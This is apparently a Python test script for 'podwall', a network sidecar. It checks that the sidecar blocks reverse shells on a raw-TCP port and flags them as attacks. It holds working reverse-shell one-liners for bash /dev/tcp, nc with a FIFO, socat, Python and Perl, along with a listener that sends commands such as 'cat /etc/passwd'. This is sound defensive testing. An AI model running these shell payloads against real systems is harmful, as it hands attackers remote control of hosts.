"""Reverse shells on a port that is granted to raw TCP.

    tests/.venv/bin/python tests/shells.py target/release/podwall

One line per check: `ok NAME`, `FAIL NAME: why`, `SKIPPED NAME: why`. Exit code 1 when one failed. Needs root: everything
happens in network namespaces that it makes and removes itself. Each shell is tried past the sidecar first: it is a real one.
"""

import contextlib
import re
import shutil
import sys
import tempfile
from pathlib import Path

from clients_kit.checks import Failed, Skipped, Tally
from clients_kit.programs import until
from egress_kit.world import OTHER, World

PORT = 7001
COMMANDS = ("id", "uname -a", "ls /", "cat /etc/passwd")
OUTPUT = re.compile(rb"uid=\d|Linux \S+ \d|^(bin|etc|usr|var)\r?$|^root:.*:0:0:", re.M)
LISTENER = """\
import socket, sys, time
command, log = sys.argv[1].encode(), sys.argv[2]
listener = socket.create_server((sys.argv[3], int(sys.argv[4])), reuse_port=True)
open(log + ".ready", "w").close()
client, _ = listener.accept()
client.settimeout(0.5)
heard, asked, end = b"", False, time.monotonic() + 4
while time.monotonic() < end:
    if not asked:
        time.sleep(0.7)
        client.sendall(command + b"\\n")
        asked = True
    try:
        piece = client.recv(65536)
        if not piece:
            break
        heard += piece
    except TimeoutError:
        pass
    except OSError:
        break
open(log, "wb").write(heard)
"""
PYTHON = (
    "import os,socket,subprocess;s=socket.create_connection(('{host}',{port}));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh'])"
)
PYTHON_PTY = (
    "import os,pty,socket;s=socket.create_connection(('{host}',{port}));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
)
PERL = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},inet_aton('{host}')));"
    "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh');"
)
SHELLS = {
    "bash": ["bash", "-c", "sh </dev/tcp/{host}/{port} >&0 2>&0"],
    "bash, interactive": ["bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"],
    "nc": ["sh", "-c", "rm -f {folder}/p; mkfifo {folder}/p; sh <{folder}/p 2>&1 | nc {host} {port} >{folder}/p"],
    "socat": ["socat", "TCP:{host}:{port}", "EXEC:/bin/sh"],
    "socat, terminal": ["socat", "TCP:{host}:{port}", "EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"],
    "python": [sys.executable, "-c", PYTHON],
    "python, terminal": [sys.executable, "-c", PYTHON_PTY],
    "perl": ["perl", "-e", PERL],
}


def heard(world, name, shell, command, host, port, inside):
    """What a listener hears of a shell that is asked for a command's output."""
    log = world.folder / f"heard-{abs(hash((name, command, host, port)))}"
    words = [*inside, sys.executable, "-c", LISTENER, command, str(log), host, str(port)]
    from clients_kit.programs import Program

    listener = Program(words, world.folder / "listener.log")
    world.made.callback(listener.end)
    until("the listener", Path(f"{log}.ready").exists)
    folder = world.folder / f"shell-{abs(hash((name, command, host)))}"
    folder.mkdir(exist_ok=True)
    words = [word.replace("{host}", host).replace("{port}", str(port)).replace("{folder}", str(folder)) for word in shell]
    where = world.inside(world.pod) if host == OTHER else inside
    client = Program([*where, *words], world.folder / "shell.log")
    world.made.callback(client.end)
    listener.process.wait(20)
    client.end()
    return log.read_bytes() if log.exists() else b""


def reverse_shell(world, name):
    shell = SHELLS[name]
    if shutil.which(shell[0]) is None or "nc " in shell[-1] and shutil.which("nc") is None:
        raise Skipped(f"no {shell[0]}")
    past = heard(world, name, shell, "id", "127.0.0.1", PORT, world.inside(world.far))
    if b"uid=" not in past:
        raise Failed(f"no shell where nobody cuts it: {past!r}")
    for command in COMMANDS:
        got = heard(world, name, shell, command, OTHER, PORT, world.inside(world.far))
        if found := OUTPUT.search(got):
            raise Failed(f"output of {command} came through: {found.group(0)!r}")
    world.sidecar.recorded(reason="attack-detected", port=PORT)


def main():
    binary, tally = Path(sys.argv[1]).resolve(), Tally()
    with contextlib.ExitStack() as made:
        folder = Path(made.enter_context(tempfile.TemporaryDirectory(prefix="podwall-shells-")))
        worlds = []
        tally.check("shells: a pod and a world", lambda: worlds.append(World(binary, folder, made)))
        for world in worlds:
            for name in SHELLS:
                tally.check(f"shell: {name}", reverse_shell, world, name)
    tally.finish()


if __name__ == "__main__":
    main()
